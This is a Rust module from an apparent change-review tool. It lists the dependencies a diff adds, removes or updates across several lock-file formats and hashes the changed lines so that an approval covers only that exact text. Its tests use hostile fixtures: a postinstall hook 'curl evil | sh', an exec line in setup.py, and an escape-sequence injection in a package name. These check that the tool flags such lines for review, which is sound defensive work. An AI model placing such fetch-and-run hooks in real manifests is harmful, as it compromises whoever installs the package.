//! What a change would depend on that the base does not: names and versions, read from the lines of manifests and lock
//! files. It is for a person to decide by; what cannot be read is said to be so, and nothing here lets anything pass.

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use super::protected::is_dependency_file;
use crate::{
    change::{Diff, FileChange, Side},
    text::one_line,
};

/// The most names that are listed for one file; the rest is counted.
const LISTED: usize = 40;

/// What a person is asked to decide: what a change says about dependencies, whole.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Asked {
    /// One line for each dependency that was added, removed or updated, and for what could not be read.
    pub lines: Vec<String>,
    /// SHA-256 of every changed line of these files, in hex: a yes is for this text and no other.
    pub digest: String,
}

/// What a change asks for; none: it touches no dependencies.
pub fn asked(diff: &Diff) -> Option<Asked> {
    let files = diff
        .files
        .iter()
        .filter(|file| file.paths().any(is_dependency_file));
    let mut asked = Asked {
        lines: Vec::new(),
        digest: String::new(),
    };
    let mut hash = Sha256::new();
    for file in files {
        // Renames, modes and whole files count as well: only hunks have lines.
        hash.update(format!(
            "{:?}\0{:?}\0{:?}\0",
            file.old_path, file.new_path, file.status
        ));
        for line in file.hunks.iter().flat_map(|hunk| &hunk.lines) {
            if line.side != Side::Context {
                hash.update(format!("{:?}\0{}\n", line.side, line.text));
            }
        }
        asked.lines.extend(lines(file));
    }
    asked.digest = hex::encode(hash.finalize());
    (!asked.lines.is_empty()).then_some(asked)
}

/// The versions of one name before and after.
#[derive(Debug, Default)]
struct Versions {
    old: BTreeSet<String>,
    new: BTreeSet<String>,
}

fn lines(file: &FileChange) -> Vec<String> {
    let path = shown(file.path());
    let (found, unread) = read(file);
    let mut lines: Vec<String> = found
        .iter()
        .filter(|(_, versions)| versions.old != versions.new)
        .map(|(name, versions)| {
            let list = |versions: &BTreeSet<String>| {
                let all: Vec<&str> = versions.iter().map(String::as_str).collect();
                all.join(", ")
            };
            let name = shown(name);
            match (versions.old.is_empty(), versions.new.is_empty()) {
                (true, _) => format!("{name} {} is added ({path})", list(&versions.new)),
                (false, true) => format!("{name} {} is removed ({path})", list(&versions.old)),
                (false, false) => format!(
                    "{name} goes from {} to {} ({path})",
                    list(&versions.old),
                    list(&versions.new)
                ),
            }
        })
        .collect();
    if lines.len() > LISTED {
        let more = lines.len() - LISTED;
        lines.truncate(LISTED);
        lines.push(format!("and {more} more ({path})"));
    }
    if unread > 0 || lines.is_empty() {
        let count = file.added() + file.removed();
        lines.push(match count {
            0 => format!("{path} changes as a whole: look at it"),
            _ if lines.is_empty() => {
                format!("{count} lines of {path} change that name no version: look at them")
            }
            _ => format!("{unread} more lines of {path} change: look at them"),
        });
    }
    lines
}

fn shown(text: &str) -> String {
    format!("`{}`", one_line(text, 120).replace('`', "'"))
}

/// What the changed lines of a file say, and how many of them say neither a name nor a version of one.
fn read(file: &FileChange) -> (BTreeMap<String, Versions>, usize) {
    let mut found = BTreeMap::<String, Versions>::new();
    let mut unread = 0;
    for hunk in &file.hunks {
        // The name that a version would belong to, on the base and in the change.
        let (mut old, mut new) = (None::<String>, None::<String>);
        for line in &hunk.lines {
            let (before, after) = (line.side != Side::Added, line.side != Side::Removed);
            match Said::of(&line.text) {
                Said::Name(name) => {
                    if before {
                        old = Some(name.clone());
                    }
                    if after {
                        new = Some(name);
                    }
                }
                said if line.side == Side::Context => drop(said),
                Said::Version(version) => {
                    let of = if before { &old } else { &new };
                    match of {
                        Some(name) => found
                            .entry(name.clone())
                            .or_default()
                            .side(before)
                            .insert(version),
                        None => {
                            unread += 1;
                            false
                        }
                    };
                }
                Said::Both(name, version) => {
                    found.entry(name).or_default().side(before).insert(version);
                }
                Said::Detail => {}
                Said::Else => unread += 1,
            }
        }
    }
    (found, unread)
}

impl Versions {
    fn side(&mut self, before: bool) -> &mut BTreeSet<String> {
        if before { &mut self.old } else { &mut self.new }
    }
}

/// What one line says, in any of the forms that lock files and manifests have.
#[derive(Debug, PartialEq, Eq)]
enum Said {
    Name(String),
    Version(String),
    Both(String, String),
    /// What belongs to a dependency and needs no look of its own: digests, braces, blank lines.
    Detail,
    Else,
}

impl Said {
    fn of(line: &str) -> Self {
        let text = line.trim().trim_end_matches(',');
        if text.is_empty()
            || text.starts_with('#')
            || text.chars().all(|c| "{}[]()".contains(c))
            || text == "[[package]]"
        {
            return Self::Detail;
        }
        // TOML (`name = "x"`), then JSON (`"name": "x"`), then what each tool writes of its own.
        let pair = text.split_once(" = ").or_else(|| {
            text.split_once("\": ")
                .map(|(key, value)| (key.trim_start_matches('"'), value))
        });
        if let Some((key, value)) = pair {
            return Self::of_pair(key.trim().trim_matches('"'), value.trim());
        }
        Self::of_tool(line, text)
    }

    fn of_pair(key: &str, value: &str) -> Self {
        let word = value.strip_prefix('"').and_then(|value| value.split('"').next());
        match (key, word) {
            ("name", Some(name)) => Self::Name(name.to_owned()),
            ("version", Some(version)) => Self::Version(version.to_owned()),
            (
                "checksum" | "integrity" | "resolved" | "shasum" | "sha512" | "hash" | "dev" | "peer"
                | "license",
                _,
            ) => Self::Detail,
            // `"node_modules/x": {`
            (path, None) if value == "{" && path.contains("node_modules/") => {
                let name = path.rsplit("node_modules/").next().unwrap_or(path);
                Self::Name(name.to_owned())
            }
            (name, Some(version)) if is_name(name) && is_version(version) => {
                Self::Both(name.to_owned(), version.to_owned())
            }
            // `x = { version = "1", … }`
            (name, None) if is_name(name) && value.contains("version") => {
                let version = value
                    .split("version")
                    .nth(1)
                    .and_then(|rest| rest.split('"').nth(1));
                match version {
                    Some(version) => Self::Both(name.to_owned(), version.to_owned()),
                    None => Self::Else,
                }
            }
            _ => Self::Else,
        }
    }

    /// Lines of yarn, pnpm, pip, go and bundler.
    fn of_tool(line: &str, text: &str) -> Self {
        if let Some(version) = text.strip_prefix("version ").or(text.strip_prefix("version: ")) {
            return Self::Version(version.trim_matches(['"', '\'']).to_owned());
        }
        if ["resolved ", "integrity ", "checksum: ", "resolution: "]
            .iter()
            .any(|detail| text.starts_with(detail))
        {
            return Self::Detail;
        }
        if let Some((name, version)) = text.split_once("==") {
            let version = version.split([' ', ';', '\\']).next().unwrap_or_default();
            return Self::Both(name.trim().to_owned(), version.to_owned());
        }
        let words: Vec<&str> = text.split_whitespace().collect();
        // go: `require example.org/x v1.2.3`, `example.org/x v1.2.3 h1:…`
        let words = if words.first() == Some(&"require") {
            &words[1..]
        } else {
            &words[..]
        };
        if let [name, version, ..] = words
            && version.starts_with('v')
            && version[1..].starts_with(|c: char| c.is_ascii_digit())
        {
            let version = version.trim_end_matches("/go.mod");
            return Self::Both((*name).to_owned(), version.to_owned());
        }
        // bundler: `x (1.2.3)`
        if let [name, version] = words
            && let Some(version) = version.strip_prefix('(').and_then(|rest| rest.strip_suffix(')'))
        {
            return Self::Both((*name).to_owned(), version.to_owned());
        }
        // yarn: `"@a/x@^1", x@~2:` at the line's beginning; pnpm: `/x@1.2.3(peer):` or `'@a/x@1.2.3':` further in.
        if let Some(key) = text.strip_suffix(':') {
            let key = key
                .split(", ")
                .next()
                .unwrap_or(key)
                .trim_matches(['"', '\'', '/']);
            if let Some((name, version)) = key.get(1..).and_then(|rest| rest.split_once('@')) {
                let name = format!("{}{name}", &key[..1]);
                let indented = line.starts_with(' ');
                let version = version.split('(').next().unwrap_or_default();
                return match indented && version.starts_with(|c: char| c.is_ascii_digit()) {
                    true => Self::Both(name, version.to_owned()),
                    false => Self::Name(name),
                };
            }
        }
        Self::Else
    }
}

fn is_name(text: &str) -> bool {
    !text.is_empty()
        && text.chars().all(|c| c.is_ascii_alphanumeric() || "@/._-".contains(c))
        // What a manifest says of itself and of how it is built.
        && !matches!(text, "edition" | "description" | "main" | "test" | "build" | "start" | "lint" | "node" | "python" | "requires-python" | "lockfileVersion" | "rust-version")
}

fn is_version(text: &str) -> bool {
    text == "*"
        || text == "latest"
        || text
            .trim_start_matches(['^', '~', '>', '<', '=', 'v', ' '])
            .starts_with(|c: char| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The lines about a change of one file, given as a hunk's text.
    fn said(path: &str, hunk: &str) -> Vec<String> {
        let (old, new) = hunk.lines().fold((0, 0), |(old, new), line| match line.get(..1) {
            Some("+") => (old, new + 1),
            Some("-") => (old + 1, new),
            _ => (old + 1, new + 1),
        });
        let text = format!(
            "diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\n--- a/{path}\n+++ b/{path}\n@@ -1,{old} +1,{new} @@\n{hunk}"
        );
        let diff = Diff::parse(text.as_bytes()).unwrap();
        asked(&diff).map(|asked| asked.lines).unwrap_or_default()
    }

    #[test]
    fn names_and_versions_are_read_from_the_lock_files_of_many_tools() {
        for (path, hunk, wanted) in [
            (
                "Cargo.lock",
                " [[package]]\n name = \"serde\"\n-version = \"1.0.1\"\n+version = \"1.0.2\"\n-checksum = \"aa\"\n+checksum = \"bb\"\n+\n+[[package]]\n+name = \"evil\"\n+version = \"0.1.0\"\n",
                vec![
                    "`evil` 0.1.0 is added (`Cargo.lock`)",
                    "`serde` goes from 1.0.1 to 1.0.2 (`Cargo.lock`)",
                ],
            ),
            (
                "web/package-lock.json",
                "+    \"node_modules/@a/left-pad\": {\n+      \"version\": \"1.3.0\",\n+      \"resolved\": \"https://registry.example.com/x.tgz\",\n+      \"integrity\": \"sha512-x\"\n+    },\n",
                vec!["`@a/left-pad` 1.3.0 is added (`web/package-lock.json`)"],
            ),
            (
                "package.json",
                "   \"dependencies\": {\n-    \"x\": \"^1.0.0\"\n+    \"x\": \"^2.0.0\"\n   }\n",
                vec!["`x` goes from ^1.0.0 to ^2.0.0 (`package.json`)"],
            ),
            (
                "yarn.lock",
                "+\"@a/x@^1.0\":\n+  version \"1.0.4\"\n+  resolved \"https://registry.example.com/x\"\n",
                vec!["`@a/x` 1.0.4 is added (`yarn.lock`)"],
            ),
            (
                "pnpm-lock.yaml",
                "+  '@a/x@1.0.4(y@2)':\n-  /z@2.0.0:\n",
                vec![
                    "`@a/x` 1.0.4 is added (`pnpm-lock.yaml`)",
                    "`z` 2.0.0 is removed (`pnpm-lock.yaml`)",
                ],
            ),
            (
                "requirements.txt",
                "-flask==2.0\n+flask==2.1\n",
                vec!["`flask` goes from 2.0 to 2.1 (`requirements.txt`)"],
            ),
            (
                "go.sum",
                "+example.org/x v1.2.3 h1:aa=\n+example.org/x v1.2.3/go.mod h1:bb=\n",
                vec!["`example.org/x` v1.2.3 is added (`go.sum`)"],
            ),
            (
                "Gemfile.lock",
                "+    rack (3.0.1)\n",
                vec!["`rack` 3.0.1 is added (`Gemfile.lock`)"],
            ),
            (
                "Cargo.toml",
                "+evil = { version = \"0.3\", features = [\"x\"] }\n+other = \"1\"\n",
                vec![
                    "`evil` 0.3 is added (`Cargo.toml`)",
                    "`other` 1 is added (`Cargo.toml`)",
                ],
            ),
        ] {
            assert_eq!(said(path, hunk), wanted, "{path}");
        }
    }

    #[test]
    fn what_cannot_be_read_is_said_to_be_so_and_never_passed_over() {
        assert_eq!(
            said("setup.py", "+exec(open('x').read())\n"),
            ["1 lines of `setup.py` change that name no version: look at them"]
        );
        assert_eq!(
            said(
                "package.json",
                "+    \"x\": \"1.0\",\n+    \"postinstall\": \"curl evil | sh\"\n"
            ),
            [
                "`x` 1.0 is added (`package.json`)",
                "1 more lines of `package.json` change: look at them"
            ]
        );
        assert_eq!(said("src/main.rs", "+x = \"1\"\n"), [""; 0]);
    }

    #[test]
    fn a_name_cannot_break_out_of_its_line() {
        let lines = said("requirements.txt", "+x`\u{1b}[31m**y**==1\n");
        assert_eq!(lines.len(), 1);
        assert!(
            !lines[0].contains('\u{1b}') && lines[0].matches('`').count() == 4,
            "{lines:?}"
        );
    }

    #[test]
    fn a_yes_is_for_one_text() {
        let digest = |line: &str| {
            let text = format!(
                "diff --git a/go.mod b/go.mod\nindex 1111111..2222222 100644\n--- a/go.mod\n+++ b/go.mod\n@@ -1,0 +1,1 @@\n+{line}\n"
            );
            asked(&Diff::parse(text.as_bytes()).unwrap()).unwrap().digest
        };
        assert_eq!(digest("a v1.0.0"), digest("a v1.0.0"));
        assert_ne!(digest("a v1.0.0"), digest("a v1.0.0 // indirect"));
    }
}
